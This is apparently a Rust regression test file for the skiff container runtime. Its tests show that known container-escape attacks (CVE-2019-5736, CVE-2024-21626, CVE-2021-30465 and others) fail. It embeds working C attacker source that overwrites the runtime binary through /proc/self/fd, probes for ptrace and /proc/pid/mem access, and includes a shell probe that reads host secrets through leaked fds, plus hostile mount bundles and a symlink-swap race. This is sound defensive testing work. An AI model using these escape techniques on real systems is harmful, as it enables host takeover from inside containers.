//! Escape regression tests: each test runs an attack from a
//! hostile container (or a hostile bundle) and shows that it fails and that
//! the host file it targeted is unchanged.
//!
//! - `exe_overwrite_through_proc_self_exe`: CVE-2019-5736 class;
//! - `runtime_not_ptraceable_during_exec`: reading the runtime's memory;
//! - `no_host_fd_or_cwd_leak` and `cwd_through_leaked_fd`: CVE-2024-21626;
//! - `symlinked_mount_destination_stays_inside` and
//!   `dotdot_mount_destination_stays_inside`: CVE-2021-30465 class;
//! - `fake_procfs_is_refused`: CVE-2019-16884 class.
//!
//! `naive_exec_is_caught` is a positive control: the same attack against a
//! runtime that has no defence (`nsenter` into the container) succeeds, so
//! the negative results above are not vacuous.
//!
//! Attacks that could damage the runtime binary run against a throw-away
//! copy of it.  Run with `cargo test -p skiff --test security` as root
//! (`SKIFF_TEST_BIN=/usr/sbin/runc` to check the tests against runc).
mod common;

use common::*;
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

/// Source of the in-container attacker (built static with gcc).
const ATTACKER_C: &str = r##"/* attacker: runs inside a hostile container.
 * usage: attacker exe|mem SECONDS
 * exe: find a process whose exe is not busybox/attacker, open it read-only,
 *      then try to reopen it for writing through /proc/self/fd (CVE-2019-5736)
 * mem: try to open /proc/<pid>/mem of any such process and ptrace-attach it */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static int foreign(const char *pid, char *target, size_t n) {
  char p[300]; snprintf(p, sizeof p, "/proc/%s/exe", pid);
  ssize_t r = readlink(p, target, n - 1);
  if (r < 0) { snprintf(target, n, "<readlink errno %d>", errno); return errno == EACCES || errno == EPERM ? 2 : 0; }
  target[r] = 0;
  if (strstr(target, "busybox") || strstr(target, "attacker")) return 0;
  /* skiff's exec trampoline: a fresh exec of a sealed 6 KiB memfd holding
   * nothing but the container's own argv/env, already with the container's
   * credentials, caps and seccomp filter (not a runtime process) */
  if (strstr(target, "/memfd:skiff-dmz")) return 0;
  return 1;
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "exe";
  if (!strcmp(mode, "keyring")) {
    /* KEYCTL_GET_KEYRING_ID (0) of KEY_SPEC_SESSION_KEYRING (-3), no create */
    long id = syscall(SYS_keyctl, 0, -3, 0);
    printf("session-keyring %ld\n", id);
    return 0;
  }
  double end = now() + (argc > 2 ? atof(argv[2]) : 3);
  char self[32]; snprintf(self, sizeof self, "%d", getpid());
  int fds[64]; int nfd = 0; int seen = 0, denied = 0;
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("ready\n");
  while (now() < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self) || !strcmp(e->d_name, "1")) continue;
      char target[512];
      int f = foreign(e->d_name, target, sizeof target);
      if (!f) continue;
      if (f == 2) { denied++; continue; }
      seen++;
      char p[300];
      if (!strcmp(mode, "exe")) {
        snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd >= 0 && nfd < 64) { fds[nfd++] = fd; printf("opened-exe %s %s\n", e->d_name, target); }
      } else {
        snprintf(p, sizeof p, "/proc/%s/mem", e->d_name);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        char after[512];
        if (fd >= 0 && foreign(e->d_name, after, sizeof after) == 1) printf("LEAK mem %s %s\n", e->d_name, target);
        if (fd >= 0) close(fd);
        int pid = atoi(e->d_name);
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
          if (foreign(e->d_name, after, sizeof after) == 1) printf("LEAK ptrace %s %s\n", e->d_name, target);
          waitpid(pid, NULL, __WALL);
          ptrace(PTRACE_DETACH, pid, 0, 0);
        }
      }
    }
    if (d) closedir(d);
    for (int i = 0; i < nfd; i++) {
      if (fds[i] < 0) continue;
      char p[300]; snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
      int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
      if (w >= 0) {
        if (write(w, "#!/bin/sh\necho PWNED\n", 21) > 0) printf("PWNED overwrote the runtime binary\n");
        close(w); return 0;
      }
    }
  }
  printf("done seen=%d denied=%d opened=%d\n", seen, denied, nfd);
  return 0;
}
"##;

/// The attacker binary, built once per test process into a private temp
/// file, then installed next to the shared rootfs template (None: no static
/// gcc).
fn attacker() -> Option<&'static Path> {
    static BIN: OnceLock<Option<PathBuf>> = OnceLock::new();
    BIN.get_or_init(|| {
        // keyed by a hash of the source, so an edited attacker is rebuilt
        let hash = ATTACKER_C.bytes().fold(0xcbf29ce484222325u64, |h, b| {
            (h ^ b as u64).wrapping_mul(0x100000001b3)
        });
        let out = rootfs_template()
            .parent()
            .unwrap()
            .join(format!("attacker-{hash:016x}"));
        if out.exists() {
            return Some(out);
        }
        let dir = temp_dir("attacker");
        let built = dir.path().join("attacker");
        match build_static_c(ATTACKER_C, &built) {
            Ok(()) => {
                install_atomically(&built, &out);
                Some(out)
            }
            Err(e) => {
                eprintln!("cannot build the attacker: {e}");
                None
            }
        }
    })
    .as_deref()
}

/// A container whose rootfs holds `/attacker`; None (after a SKIP line)
/// when the host cannot build it.
fn hostile(tag: &str) -> Option<Container> {
    let Some(a) = attacker() else {
        skip("gcc cannot build static binaries (apt-get install gcc libc6-dev)");
        return None;
    };
    let c = Container::new(tag);
    fs::copy(a, c.rootfs().join("attacker")).unwrap();
    Some(c)
}

/// Copy the runtime under test to `dir` (keeping its file name) and return
/// the copy: attacks on the binary must never hit the real one.
fn runtime_copy(dir: &Path) -> PathBuf {
    let bin = test_bin();
    let copy = dir.join(bin.file_name().unwrap());
    fs::copy(&bin, &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    copy
}

/// Start the attacker as the container's init in `mode` for `secs`, run
/// `exec` of `target` `rounds` times, and return the attacker's report.
fn attack_during_exec(c: &mut Container, mode: &str, target: &[&str], rounds: usize) -> String {
    c.config["process"]["args"] = json!(["sh", "-c", format!("/attacker {mode} 4 > /report 2>&1")]);
    c.create().assert_ok("create");
    c.start().assert_ok("start");
    assert!(wait_for_path(
        &c.rootfs().join("report"),
        Duration::from_secs(5)
    ));
    std::thread::sleep(Duration::from_millis(300));
    for _ in 0..rounds {
        let mut args = vec!["exec", c.id.as_str()];
        args.extend_from_slice(target);
        let out = c.runtime(&args);
        // the exec itself may fail (e.g. the interpreter trick); the point
        // is what the attacker could do meanwhile
        let _ = out;
    }
    c.wait_status("stopped", Duration::from_secs(10));
    fs::read_to_string(c.rootfs().join("report")).unwrap_or_default()
}

#[test]
fn exe_overwrite_through_proc_self_exe() {
    if !need_root() {
        return;
    }
    let Some(mut c) = hostile("cve-2019-5736") else {
        return;
    };
    let rt = runtime_copy(&c.scratch());
    let before = fs::read(&rt).unwrap();
    c.bin = rt.clone();
    // exec'ing /evil makes the kernel run "/proc/self/exe --version", i.e.
    // whatever binary performed the exec, inside the container
    fs::write(c.rootfs().join("evil"), "#!/proc/self/exe --version\n").unwrap();
    fs::set_permissions(c.rootfs().join("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    let report = attack_during_exec(&mut c, "exe", &["/evil"], 15);
    eprintln!("attacker report:\n{report}");
    assert!(
        report.contains("done") || report.contains("PWNED"),
        "attacker did not run: {report}"
    );
    assert!(
        !report.contains("PWNED"),
        "the runtime binary was overwritten: {report}"
    );
    assert!(fs::read(&rt).unwrap() == before, "runtime binary changed");
    c.finish();
}

/// The container's program is exec'd through skiff's sealed-memfd
/// trampoline, so a program whose interpreter is `/proc/self/exe` gets the
/// trampoline, never the host's runtime binary (CVE-2019-5736).
#[test]
fn proc_self_exe_interpreter_is_not_the_runtime() {
    if !need_root() {
        return;
    }
    let mut c = Container::new("selfexe");
    let rt = runtime_copy(&c.scratch());
    let before = fs::read(&rt).unwrap();
    c.bin = rt.clone();
    fs::write(c.rootfs().join("evil"), "#!/proc/self/exe --version\n").unwrap();
    fs::set_permissions(c.rootfs().join("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    c.config["process"]["args"] = json!(["/evil"]);
    let out = c.run();
    eprintln!("run: {out:?}");
    assert_ne!(
        out.code,
        Some(0),
        "the interpreter trick must fail: {out:?}"
    );
    if is_skiff() {
        assert!(
            !out.stdout.contains("spec: 1.3.0"),
            "the host's skiff binary ran inside the container: {out:?}"
        );
        // The kernel ran the trampoline as the interpreter; the trampoline
        // then found no program called "--version". (Without it, a stock
        // kernel would run the host's skiff here and print its version.)
        assert!(
            out.stderr.contains("skiff: exec --version: no such file"),
            "expected the trampoline as the interpreter: {out:?}"
        );
    }
    assert!(fs::read(&rt).unwrap() == before, "runtime binary changed");
    c.finish();
}

#[test]
fn runtime_not_ptraceable_during_exec() {
    if !need_root() {
        return;
    }
    let Some(mut c) = hostile("ptrace") else {
        return;
    };
    let report = attack_during_exec(&mut c, "mem", &["/bin/sleep", "0.05"], 15);
    eprintln!("attacker report:\n{report}");
    assert!(report.contains("done"), "attacker did not finish: {report}");
    assert!(
        !report.contains("LEAK"),
        "a runtime process was readable: {report}"
    );
    c.finish();
}

#[test]
fn naive_exec_is_caught() {
    // Positive control for the two tests above: a naive "exec" (nsenter
    // into the container's namespaces, setpriv down to the container's
    // capabilities, execve) exposes its own binary to the container, and the
    // attacker overwrites it.  The victim is a throw-away copy of setpriv.
    if !need_root() {
        return;
    }
    let (Some(nsenter), Some(setpriv)) = (which("nsenter"), which("setpriv")) else {
        skip("nsenter/setpriv (util-linux) not installed");
        return;
    };
    let Some(mut c) = hostile("control") else {
        return;
    };
    let victim = c.scratch().join("setpriv-copy");
    fs::copy(setpriv, &victim).unwrap();
    fs::write(c.rootfs().join("evil"), "#!/proc/self/exe --version\n").unwrap();
    fs::set_permissions(c.rootfs().join("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    c.config["process"]["args"] = json!(["sh", "-c", "/attacker exe 4 > /report 2>&1"]);
    c.create().assert_ok("create");
    c.start().assert_ok("start");
    assert!(wait_for_path(
        &c.rootfs().join("report"),
        Duration::from_secs(5)
    ));
    let pid = c.state()["pid"].as_i64().unwrap().to_string();
    let caps = "-all,+audit_write,+kill,+net_bind_service";
    let evil = format!("/proc/{pid}/root/evil");
    // let the attacker get going (same delay as attack_during_exec)
    std::thread::sleep(Duration::from_millis(300));
    for _ in 0..30 {
        let _ = output_timeout(
            Command::new(&nsenter)
                .args(["-t", &pid, "-p", "-n", "-i", "-u", "--"])
                .arg(&victim)
                .args([
                    "--bounding-set",
                    caps,
                    "--inh-caps",
                    caps,
                    "--ambient-caps",
                    caps,
                    &evil,
                ]),
            TIMEOUT,
        );
        if fs::read_to_string(c.rootfs().join("report"))
            .unwrap_or_default()
            .contains("PWNED")
        {
            break;
        }
    }
    c.wait_status("stopped", Duration::from_secs(10));
    let report = fs::read_to_string(c.rootfs().join("report")).unwrap_or_default();
    assert!(
        report.contains("PWNED"),
        "control attack should succeed against a naive exec: {report}"
    );
    assert!(fs::read_to_string(&victim)
        .unwrap_or_default()
        .contains("PWNED"));
    c.finish();
}

/// Full path of a host program.
fn which(name: &str) -> Option<PathBuf> {
    ["/usr/bin", "/bin", "/usr/sbin", "/sbin"]
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.exists())
}

#[test]
fn new_session_keyring_unless_asked() {
    // each container gets its own session keyring (keys of the caller are
    // not shared), unless --no-new-keyring
    if !need_root() {
        return;
    }
    // SAFETY: keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1)
    // only returns (creating if needed) this process's session keyring id.
    let host = unsafe { libc::syscall(libc::SYS_keyctl, 0, -3i64, 1i64) };
    if host < 0 {
        skip("keyctl not available");
        return;
    }
    for (flags, same) in [(&[][..], false), (&["--no-new-keyring"][..], true)] {
        let Some(mut c) = hostile("keyring") else {
            return;
        };
        c.config["process"]["args"] = json!(["/attacker", "keyring"]);
        let out = c.run_with(flags);
        out.assert_ok("run");
        let id: i64 = out
            .stdout
            .trim()
            .strip_prefix("session-keyring ")
            .unwrap()
            .parse()
            .unwrap();
        if same {
            assert_eq!(
                id, host,
                "--no-new-keyring keeps the caller's session keyring"
            );
        } else {
            assert_ne!(id, host, "a new session keyring by default");
        }
        c.finish();
    }
}

/// Host fixture for the fd/cwd tests: a directory with a secret and a
/// target file.
fn host_secret(c: &Container) -> (PathBuf, PathBuf) {
    let dir = c.scratch().join("host-secret");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("secret"), "host-secret-content\n").unwrap();
    fs::write(dir.join("target"), "original\n").unwrap();
    (dir.clone(), dir.join("target"))
}

/// Probe run inside the container: tries every fd and the cwd to reach the
/// host.  Prints ESCAPE lines on success.
const FD_PROBE: &str = "i=0; while [ $i -lt 64 ]; do \
      for p in /proc/self/fd/$i /proc/1/fd/$i; do \
        cat $p/secret 2>/dev/null && echo ESCAPE-read-$p; \
        [ -d $p ] && (echo pwned > $p/target) 2>/dev/null && echo ESCAPE-write-$p; \
        cat $p/../../../../../../../../../../etc/debian_version 2>/dev/null && echo ESCAPE-dotdot-$p; \
      done; i=$((i+1)); done; \
    cat ../../../../../../../../../../etc/debian_version 2>/dev/null && echo ESCAPE-cwd; \
    cat ./secret 2>/dev/null && echo ESCAPE-cwd-secret; echo probe-done";

#[test]
fn no_host_fd_or_cwd_leak() {
    if !need_root() {
        return;
    }
    if !Path::new("/etc/debian_version").exists() {
        skip("the probe looks for the host's /etc/debian_version");
        return;
    }
    let mut c = Container::new("cve-2024-21626");
    let (dir, target) = host_secret(&c);
    c.sh(FD_PROBE);
    c.save();
    let d1 = fs::File::open(&dir).unwrap();
    let d2 = fs::File::open("/").unwrap();
    let f1 = fs::File::open(dir.join("secret")).unwrap();
    let mut cmd = c.cmd();
    cmd.current_dir(&dir);
    cmd.args(["run", "--bundle"]).arg(&c.bundle).arg(&c.id);
    pass_fd(&mut cmd, raw(&d1), 5);
    pass_fd(&mut cmd, raw(&d2), 6);
    pass_fd(&mut cmd, raw(&f1), 7);
    let out = output_timeout(&mut cmd, TIMEOUT);
    out.assert_ok("run");
    assert!(out.stdout.contains("probe-done"), "{out:?}");
    assert!(
        !out.stdout.contains("ESCAPE"),
        "host reached from the container: {}",
        out.stdout
    );
    assert!(
        !out.stdout.contains("host-secret-content"),
        "{}",
        out.stdout
    );
    assert_eq!(fs::read_to_string(&target).unwrap(), "original\n");
    c.finish();
}

#[test]
fn cwd_through_leaked_fd() {
    // process.cwd = /proc/self/fd/N: runc < 1.1.12 chdir'ed into its own
    // leaked fd of the host cgroupfs (CVE-2024-21626 attack 1)
    if !need_root() {
        return;
    }
    if !Path::new("/etc/debian_version").exists() {
        skip("the probe looks for the host's /etc/debian_version");
        return;
    }
    for fd in 3..=12 {
        let mut c = Container::new("cwdfd");
        let (dir, target) = host_secret(&c);
        c.sh(FD_PROBE);
        c.config["process"]["cwd"] = json!(format!("/proc/self/fd/{fd}"));
        c.save();
        let d1 = fs::File::open(&dir).unwrap();
        let mut cmd = c.cmd();
        cmd.args(["run", "--bundle"]).arg(&c.bundle).arg(&c.id);
        pass_fd(&mut cmd, raw(&d1), 7);
        let out = output_timeout(&mut cmd, TIMEOUT);
        // failing to start is a fine outcome; escaping is not
        assert!(
            !out.stdout.contains("ESCAPE"),
            "cwd fd {fd}: {}",
            out.stdout
        );
        assert!(
            !out.stdout.contains("host-secret-content"),
            "cwd fd {fd}: {}",
            out.stdout
        );
        assert_eq!(fs::read_to_string(&target).unwrap(), "original\n");
        c.finish();
    }
}

/// Snapshot of a host directory: (name, content) of every entry.
fn snapshot(dir: &Path) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| {
            let content = fs::read_to_string(e.path()).unwrap_or_else(|_| "<not a file>".into());
            (e.file_name().to_string_lossy().into_owned(), content)
        })
        .collect();
    v.sort();
    v
}

/// A host directory the hostile bundle aims at.
fn host_target(c: &Container) -> PathBuf {
    let dir = c.scratch().join("host-etc");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("passwd"), "host passwd\n").unwrap();
    dir
}

/// Run a hostile bundle (create may fail; that is a fine outcome) and
/// check the host directory is untouched.
fn run_hostile_bundle(mut c: Container, target: &Path) {
    let before = snapshot(target);
    let out = c.create();
    if out.ok() {
        c.start().assert_ok("start");
        c.wait_status("stopped", Duration::from_secs(5));
    }
    assert_eq!(
        snapshot(target),
        before,
        "host directory changed; create: {out:?}"
    );
    assert!(
        mounts_under(target).is_empty(),
        "mount landed on the host: {:?}",
        mounts_under(target)
    );
    let _ = c.delete(true);
    assert_eq!(
        snapshot(target),
        before,
        "host directory changed after delete"
    );
    c.finish();
}

#[test]
fn symlinked_mount_destination_stays_inside() {
    // rootfs /etc -> /<host dir>: mounts and devices under /etc must land in
    // the rootfs (or be refused), never in the host directory
    if !need_root() {
        return;
    }
    let mut c = Container::new("symlink-dest");
    let target = host_target(&c);
    let etc = c.rootfs().join("etc");
    fs::remove_dir_all(&etc).unwrap();
    std::os::unix::fs::symlink(&target, &etc).unwrap();
    let src = c.scratch().join("src-file");
    fs::write(&src, "from bundle\n").unwrap();
    let s = src.to_string_lossy().into_owned();
    c.config["mounts"].as_array_mut().unwrap().extend([
        json!({"destination": "/etc/newdir", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}),
        json!({"destination": "/etc/hosts", "type": "bind", "source": s, "options": ["bind"]}),
        json!({"destination": "/etc/passwd", "type": "bind", "source": s, "options": ["bind"]}),
    ]);
    c.config["linux"]["devices"] = json!([{"path": "/dev/../etc/evil-dev", "type": "c", "major": 1, "minor": 3, "fileMode": 0o666}]);
    c.config["linux"]["maskedPaths"] = json!(["/etc/passwd"]);
    c.config["linux"]["readonlyPaths"] = json!(["/etc"]);
    c.config["process"]["args"] = json!(["true"]);
    run_hostile_bundle(c, &target);
}

#[test]
fn dotdot_mount_destination_stays_inside() {
    if !need_root() {
        return;
    }
    let mut c = Container::new("dotdot-dest");
    let target = host_target(&c);
    let up = "/..".repeat(12);
    let t = target.to_string_lossy().into_owned();
    let src = c.scratch().join("src-file");
    fs::write(&src, "from bundle\n").unwrap();
    let s = src.to_string_lossy().into_owned();
    c.config["mounts"].as_array_mut().unwrap().extend([
        json!({"destination": format!("{up}{t}/newdir"), "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}),
        json!({"destination": format!("{up}{t}/newfile"), "type": "bind", "source": s, "options": ["bind"]}),
        json!({"destination": format!("/tmp/..{up}{t}/passwd"), "type": "bind", "source": s, "options": ["bind"]}),
    ]);
    c.config["linux"]["devices"] = json!([{"path": format!("/dev{up}{t}/evil-dev"), "type": "c", "major": 1, "minor": 3, "fileMode": 0o666}]);
    c.config["process"]["args"] = json!(["true"]);
    run_hostile_bundle(c, &target);
}

#[test]
fn fake_procfs_is_refused() {
    // /proc (or /proc/sys) replaced by a bind of a host directory: the
    // runtime must not write sysctls / oom_score_adj into those files
    if !need_root() {
        return;
    }
    for (dest, sub) in [("/proc", "sys/net/ipv4"), ("/proc/sys", "net/ipv4")] {
        let mut c = Container::new("fakeproc");
        let fake = c.scratch().join("fakeproc");
        fs::create_dir_all(fake.join(sub)).unwrap();
        fs::write(fake.join(sub).join("ip_forward"), "0\n").unwrap();
        fs::create_dir_all(fake.join("self")).unwrap();
        fs::write(fake.join("self/oom_score_adj"), "0\n").unwrap();
        let f = fake.to_string_lossy().into_owned();
        let mounts = c.config["mounts"].as_array_mut().unwrap();
        if dest == "/proc" {
            mounts.retain(|m| m["destination"] != "/proc");
        }
        mounts
            .push(json!({"destination": dest, "type": "bind", "source": f, "options": ["rbind"]}));
        c.config["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
        c.config["process"]["oomScoreAdj"] = json!(100);
        c.config["linux"]["maskedPaths"] = json!([]);
        c.config["linux"]["readonlyPaths"] = json!([]);
        c.config["process"]["args"] = json!(["true"]);
        run_hostile_bundle(c, &fake.join(sub));
    }
}

#[test]
fn symlink_swapped_during_setup_stays_inside() {
    // CVE-2021-30465 class: while the runtime sets up mounts, a path
    // component of a mount destination is swapped between a directory and a
    // symlink to a host directory.  Whatever wins the race, nothing may be
    // created or mounted in the host directory.
    if !need_root() {
        return;
    }
    let mut c = Container::new("swap-race");
    let target = c.scratch().join("host-target");
    fs::create_dir(&target).unwrap();
    let mnt = c.rootfs().join("mnt");
    fs::create_dir(mnt.join("x")).unwrap();
    std::os::unix::fs::symlink(&target, mnt.join("x.link")).unwrap();
    let src = c.scratch().join("src-file");
    fs::write(&src, "from bundle\n").unwrap();
    let s = src.to_string_lossy().into_owned();
    c.config["mounts"].as_array_mut().unwrap().extend([
        json!({"destination": "/mnt/x/sub", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}),
        json!({"destination": "/mnt/x/file", "type": "bind", "source": s, "options": ["bind"]}),
    ]);
    c.config["process"]["args"] = json!(["true"]);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let a = std::ffi::CString::new(mnt.join("x").to_string_lossy().as_bytes()).unwrap();
        let b = std::ffi::CString::new(mnt.join("x.link").to_string_lossy().as_bytes()).unwrap();
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: renameat2 with two valid C strings; RENAME_EXCHANGE
                // atomically swaps the two entries.
                let r = unsafe {
                    libc::syscall(
                        libc::SYS_renameat2,
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        b.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                if r == 0 {
                    swaps += 1;
                }
            }
            swaps
        })
    };
    let mut outcomes = (0, 0);
    for _ in 0..20 {
        let out = c.run();
        if out.ok() {
            outcomes.0 += 1;
        } else {
            outcomes.1 += 1;
        }
        let _ = c.delete(true);
        let left: Vec<_> = fs::read_dir(&target)
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        if !left.is_empty() || !mounts_under(&target).is_empty() {
            stop.store(true, std::sync::atomic::Ordering::Relaxed);
            swapper.join().unwrap();
            panic!(
                "host dir reached: entries {left:?}, mounts {:?}",
                mounts_under(&target)
            );
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    eprintln!("runs ok/failed: {outcomes:?}, swaps: {swaps}");
    assert!(swaps > 0, "the swapper never swapped");
    c.finish();
}
